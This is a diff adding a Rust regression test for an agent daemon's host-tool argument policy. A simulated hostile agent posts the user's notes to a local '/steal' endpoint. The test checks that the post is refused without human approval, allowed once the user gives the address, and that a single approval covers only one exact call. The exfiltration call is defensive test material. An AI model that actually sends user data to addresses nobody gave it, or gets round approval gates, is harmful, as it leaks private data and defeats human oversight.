@@ -489,6 +489,77 @@ fn t2_regression_choird_ran_host_tools_the_operators_tool_policy_denied() {
     assert_eq!(status, 200, "{body}");
 }
 
+/// T2: choird judges a host-tool call's arguments itself. A hostile agent
+/// binary, with its valid token, posts to an address nobody gave it:
+/// refused (the argument policy asks a person, and choird holds no
+/// approval). The same address once the user wrote it: runs. An address a
+/// person approved for exactly this call: runs once; the approval does not
+/// cover a second call nor another body.
+#[test]
+fn t2_regression_choird_ran_a_host_tool_call_the_argument_policy_sends_to_a_person() {
+    let Some(pg) = TestPg::start() else { return };
+    let llm = FakeLlm::with_responder(|_, _| Some(Step::Text("fine".into())));
+    let tg = FakeTelegram::start();
+    let emb = FakeEmbeddings::start(32);
+    let receiver = choir_tests::fake_web::Receiver::start();
+    let origin = receiver.origin();
+    let mut config = t2_config(&llm, &pg, &tg, &emb);
+    config["agents"]["evil"]["web"] = json!({"allow_addresses": ["127.0.0.1/32"], "post_origins": [origin]});
+    let choird = Choird::start(&config, &json!({"llm_key": "k", "tg_a": TOKEN_A}));
+    tg.add_bot(TOKEN_A, 111111, "alpha_bot");
+    choird.ctl_ok(&["agent", "start", "evil"]);
+    let evil = Evil::of(&choird, "evil");
+    let post = |url: &str, body: Value, call_id: &str| {
+        evil.rpc(
+            "EXECUTE_HOST_TOOL",
+            &json!({"tool": "choir.http.post", "lane": "edge", "call_id": call_id, "input": {"url": url, "json": body}}),
+        )
+    };
+    let steal = format!("{origin}/steal");
+
+    // Nobody gave this address: a person must confirm, and none did.
+    let (status, body) = post(&steal, json!({"notes": "all of them"}), "p1");
+    assert_eq!(status, 403, "{body}");
+    let message = body["error"]["message"].as_str().unwrap();
+    assert!(message.contains("holds no approval") && message.contains("post-url-not-given"), "{body}");
+    assert!(message.contains("from model"), "traced by choird to nobody: {body}");
+    assert!(receiver.received().is_empty(), "nothing left the host");
+    assert_eq!(audit_count(&pg, "action = 'EXECUTE_HOST_TOOL' AND outcome = 'not_confirmed'"), 1);
+
+    // The user (Telegram user 502 is evil's) writes the address: now it runs.
+    tg.user_says(TOKEN_A, 502, &format!("please post my notes to {steal}"));
+    wait_for("the user's message", Duration::from_secs(20), || {
+        let n: i64 =
+            pg.client().query_one("SELECT count(*) FROM messages WHERE agent_id = 'evil'", &[]).unwrap().get(0);
+        n == 1
+    });
+    let (status, body) = post(&steal, json!({"notes": "all of them"}), "p2");
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(receiver.received().len(), 1);
+
+    // A person approves exactly one call to another address.
+    let other = format!("{origin}/other");
+    let input = json!({"url": other, "json": {"n": 1}});
+    let (status, asked) = evil.rpc(
+        "REQUEST_APPROVAL",
+        &json!({"kind": "call", "scope": "agent", "reason": "post it", "lane": "edge",
+                "content": {"tool": "choir.http.post", "input": input, "call_id": "edge/c9", "timeout_s": 60}}),
+    );
+    assert_eq!(status, 200, "{asked}");
+    let id = asked["approval_id"].as_i64().unwrap().to_string();
+    choird.ctl_ok(&["approvals", "approve", &id, "--sha256", asked["sha256"].as_str().unwrap()]);
+    // Another body is not what was approved.
+    let (status, body) = post(&other, json!({"n": 2}), "p3");
+    assert_eq!(status, 403, "{body}");
+    let (status, body) = post(&other, json!({"n": 1}), "p4");
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(receiver.received().len(), 2);
+    // Used once: a second call needs a second approval.
+    let (status, body) = post(&other, json!({"n": 1}), "p5");
+    assert_eq!(status, 403, "{body}");
+    assert_eq!(receiver.received().len(), 2);
+}
+
 /// What a tool's shell reaches for around it: it may not trace another
 /// process (`ptrace` is refused by the agent's seccomp filter, which every
 /// tool process inherits), a stop signal from it does not stop the agent
